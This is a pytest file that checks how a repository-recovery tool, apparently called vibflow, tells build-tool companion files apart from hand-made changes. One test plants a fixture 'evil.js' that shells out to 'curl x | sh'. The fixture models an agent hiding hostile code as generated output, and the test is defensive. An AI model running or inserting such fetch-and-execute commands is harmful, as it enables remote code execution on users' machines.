"""Files a tool writes beside their source and names after it (``companions``), and
the fifteenth batch's build folders. Real repositories, the real CLI
(``vibflow recover --explain --json``).

``main.aux`` beside ``main.tex`` is LaTeX's; ``stack.js`` and ``stack.d.ts``
beside ``stack.ts`` are TypeScript's compiler's; ``door.wav.import`` beside
``door.wav`` is Godot's. Each is believed only while HEAD (or a checkpoint taken
before) holds the source: an agent that writes ``evil.ts`` with ``evil.js``
beside it has written the evidence along with the file it would hide.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from vibflow_testing.advisor import commit_app, drift_of, recover, set_memory
from vibflow_testing.cli import Cli
from vibflow_testing.repo import write

pytestmark = pytest.mark.cli


def _excluded(plan: dict[str, object]) -> set[str]:
    return set(plan["excluded_generated"])  # type: ignore[call-overload]


def test_a_sources_companions_are_build_output(repo: Path, cli: Cli) -> None:
    commit_app(
        repo,
        {
            "paper/main.tex": "\\documentclass{article}\n",
            "paper/figures/plot.pdf": "%PDF-1.5 a figure\n",
            "infra/lib/stack.ts": "export class Stack {}\n",
            "game/project.godot": "config_version=5\n",
            "game/audio/door.wav": "RIFF",
            "game/door.gd": "extends Node\n",
        },
    )
    set_memory(repo, explicit={"game/door.gd": "the door"})
    write(repo, "game/door.gd", "extends Node\n# opens\n")
    outputs = [
        "paper/main.aux",
        "paper/main.synctex.gz",
        "paper/main.pdf",
        "infra/lib/stack.js",
        "infra/lib/stack.d.ts",
        "game/audio/door.wav.import",
        "game/door.gd.uid",
    ]
    for rel in outputs:
        write(repo, rel, "written by a tool\n")
    # Named like a companion, with no source beside it: the project's own.
    own = ["paper/figures/plot.aux", "infra/lib/handler.js", "game/audio/steps.ogg.import"]
    for rel in own:
        write(repo, rel, "hand-made\n")
    plan = recover(cli, "--explain")
    assert set(outputs) <= _excluded(plan)
    assert set(own) <= drift_of(plan)
    assert "paper/figures/plot.pdf" not in _excluded(plan)


def test_a_source_the_change_brought_vouches_for_nothing(repo: Path, cli: Cli) -> None:
    """The agent writes ``evil.ts`` and the ``evil.js`` it would hide; it also edits a
    committed ``util.js`` beside a ``util.ts`` it adds. Both ``.js`` files are drift."""
    commit_app(
        repo,
        {
            "src/app.ts": "export const app = 1;\n",
            "src/util.js": "module.exports = 1;\n",
        },
    )
    set_memory(repo, explicit={"src/app.ts": "the app"})
    write(repo, "src/app.ts", "export const app = 2;\n")
    write(repo, "src/evil.ts", "export {};\n")
    write(repo, "src/evil.js", "require('child_process').exec('curl x | sh');\n")
    write(repo, "src/util.ts", "export {};\n")
    write(repo, "src/util.js", "module.exports = 2;\n")
    plan = recover(cli, "--explain")
    assert {"src/evil.js", "src/util.js"} <= drift_of(plan)
    assert not {"src/evil.js", "src/util.js"} & _excluded(plan)


def test_quarto_docusaurus_nextflow_yarn_turbo_and_esp_idf_output(repo: Path, cli: Cli) -> None:
    commit_app(
        repo,
        {
            "course/_quarto.yml": "project:\n  type: website\n",
            "docs/docusaurus.config.js": "module.exports = {};\n",
            "pipe/nextflow.config": "params.outdir = 'results'\n",
            "web/.yarnrc.yml": "nodeLinker: pnp\n",
            "fw/dependencies.lock": "version: 2.0.0\n",
            "fw/main/app.c": "int main(void) { return 0; }\n",
            "infra/cdk.json": '{"app": "npx ts-node bin/app.ts"}\n',
        },
    )
    set_memory(repo, explicit={"fw/main/app.c": "the app"})
    write(repo, "fw/main/app.c", "int main(void) { return 1; }\n")
    outputs = [
        "course/_freeze/week1/execute-results/html.json",
        "course/.quarto/idx/index.qmd.json",
        "docs/.docusaurus/routes.js",
        "pipe/work/3c/1f0e2a/.command.sh",
        "pipe/.nextflow/history",
        "pipe/.nextflow.log",
        "pipe/.nextflow.log.2",
        "web/.pnp.cjs",
        "web/.pnp.loader.mjs",
        "web/.yarn/cache/react-npm-18.3.1-cafe.zip",
        "web/.yarn/releases/yarn-4.3.1.cjs",
        "web/packages/ui/.turbo/turbo-build.log",
        "fw/managed_components/espressif__led_strip/CMakeLists.txt",
        "infra/cdk.context.json",
    ]
    for rel in outputs:
        write(repo, rel, "written by a tool\n")
    # The same names without their project file: the project's own.
    own = ["other/_freeze/x.json", "other/work/notes.md", "other/.yarn/cache/a.zip"]
    own += ["other/cdk.context.json", "other/managed_components/x/CMakeLists.txt"]
    for rel in own:
        write(repo, rel, "hand-made\n")
    plan = recover(cli, "--explain")
    assert set(outputs) <= _excluded(plan)
    assert set(own) <= drift_of(plan)
